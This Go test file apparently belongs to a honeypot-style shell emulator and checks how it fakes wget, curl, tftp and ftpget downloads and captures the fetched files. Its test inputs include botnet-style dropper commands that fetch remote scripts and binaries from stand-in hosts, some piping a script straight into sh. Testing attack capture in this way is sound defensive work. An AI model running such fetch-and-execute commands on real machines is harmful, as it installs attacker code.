@@ -0,0 +1,110 @@
+package shell
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+)
+
+// testFetcher serves fixed downloads and records what was asked for
+type testFetcher struct {
+	requests []string
+}
+
+func (f *testFetcher) fetch(command, url, userAgent string) (*Download, error) {
+	f.requests = append(f.requests, command+" "+url+" "+userAgent)
+	switch url {
+	case "http://198.51.100.3/x.sh":
+		return &Download{Data: []byte("echo dropped\n"), Status: 200, ContentType: "text/x-sh"}, nil
+	case "http://198.51.100.3/missing":
+		return &Download{Data: []byte("<h1>Not Found</h1>"), Status: 404, ContentType: "text/html"}, nil
+	case "tftp://198.51.100.3/mips", "ftp://bot:pw@198.51.100.3:2121/pub/arm7":
+		return &Download{Data: []byte("\x7fELF")}, nil
+	case "http://192.0.2.1/too-big":
+		return nil, ErrNotFetched
+	}
+	return nil, errors.New("connection refused")
+}
+
+func TestDownloadCommands(t *testing.T) {
+	tests := []struct {
+		line       string
+		wantOut    []string // Substrings of the output
+		wantStatus int
+		wantFile   string // File the download is saved in; "" for none
+		wantReq    string
+	}{
+		{"wget -qO- http://198.51.100.3/x.sh | sh", []string{"dropped"}, 0, "", "wget http://198.51.100.3/x.sh Wget/1.20.3 (linux-gnu)"},
+		{"wget 198.51.100.3/x.sh", []string{"200 OK", "Length: 13 [text/x-sh]", "'x.sh' saved [13/13]"}, 0, "/tmp/x.sh", "wget http://198.51.100.3/x.sh Wget/1.20.3 (linux-gnu)"},
+		{"wget -O /tmp/.s http://198.51.100.3/x.sh", nil, 0, "/tmp/.s", ""},
+		{"wget http://198.51.100.3/missing", []string{"ERROR 404: Not Found."}, 8, "", ""},
+		{"wget http://203.0.113.1/x", []string{"Connecting to 203.0.113.1:80... failed: Connection refused."}, 4, "", ""},
+		{"wget http://192.0.2.1/too-big", []string{"saved [1024/1024]"}, 0, "", ""},
+		{"curl -A Mozilla/5.0 http://198.51.100.3/x.sh", []string{"echo dropped"}, 0, "", "curl http://198.51.100.3/x.sh Mozilla/5.0"},
+		{"curl -sLo b http://198.51.100.3/x.sh", nil, 0, "/tmp/b", ""},
+		{"curl -O http://198.51.100.3/x.sh", nil, 0, "/tmp/x.sh", ""},
+		{"curl -fsS http://198.51.100.3/missing", []string{"curl: (22) The requested URL returned error: 404 Not Found"}, 22, "", ""},
+		{"curl http://198.51.100.3/missing", []string{"Not Found"}, 0, "", ""},
+		{"curl https://203.0.113.1/x", []string{"Failed to connect to 203.0.113.1 port 443"}, 7, "", ""},
+		{"tftp -g -r mips -l .m 198.51.100.3", nil, 0, "/tmp/.m", "tftp tftp://198.51.100.3/mips "},
+		{"busybox tftp -gr mips 198.51.100.3", nil, 0, "/tmp/mips", ""},
+		{"tftp -g -r mips 203.0.113.1", []string{"tftp: timeout"}, 1, "", ""},
+		{"ftpget -u bot -p pw -P 2121 198.51.100.3 a pub/arm7", nil, 0, "/tmp/a", "ftpget ftp://bot:pw@198.51.100.3:2121/pub/arm7 "},
+	}
+	for _, tt := range tests {
+		f := &testFetcher{}
+		s := NewSession(newTestFS(t), DefaultRegistry())
+		s.Sleep = func(time.Duration) {}
+		s.Fetch = f.fetch
+		s.Cwd = "/tmp"
+
+		var out bytes.Buffer
+		status := s.Run(&out, tt.line)
+		for _, want := range tt.wantOut {
+			if !strings.Contains(out.String(), want) {
+				t.Errorf("%s: output %q does not contain %q", tt.line, out.String(), want)
+			}
+		}
+		if status != tt.wantStatus {
+			t.Errorf("%s: status = %d, want %d", tt.line, status, tt.wantStatus)
+		}
+		if tt.wantReq != "" && (len(f.requests) != 1 || f.requests[0] != tt.wantReq) {
+			t.Errorf("%s: requests = %q, want %q", tt.line, f.requests, tt.wantReq)
+		}
+		var saved []string
+		for _, a := range s.FS.Artifacts() {
+			saved = append(saved, a.Path)
+		}
+		if tt.wantFile == "" && len(saved) != 0 || tt.wantFile != "" && (len(saved) != 1 || saved[0] != tt.wantFile) {
+			t.Errorf("%s: saved %q, want %q", tt.line, saved, tt.wantFile)
+		}
+	}
+}
+
+func TestDownloadWithoutFetcher(t *testing.T) {
+	s := NewSession(newTestFS(t), DefaultRegistry())
+	s.Sleep = func(time.Duration) {}
+	s.Cwd = "/tmp"
+	var out bytes.Buffer
+	if status := s.Run(&out, "wget http://198.51.100.3/bins/x86; curl -O http://198.51.100.3/y; tftp -g -r z 198.51.100.3"); status != 0 {
+		t.Errorf("status = %d, want 0", status)
+	}
+	if !strings.Contains(out.String(), "'x86' saved [1024/1024]") {
+		t.Errorf("output = %q, want a pretended download", out.String())
+	}
+	if a := s.FS.Artifacts(); len(a) != 0 {
+		t.Errorf("files saved without a fetcher: %v", a)
+	}
+}
+
+func TestParseOptions(t *testing.T) {
+	opts, operands := parseOptions([]string{"-qO-", "--user-agent=x", "-t", "3", "--no-check-certificate", "url", "--", "-x"}, "OUt", map[string]byte{"user-agent": 'U'})
+	if opts['O'] != "-" || opts['U'] != "x" || opts['t'] != "3" || strings.Join(operands, " ") != "url -x" {
+		t.Errorf("parseOptions = %q, %q", opts, operands)
+	}
+	if _, ok := opts['q']; !ok {
+		t.Errorf("-q lost in a group")
+	}
+}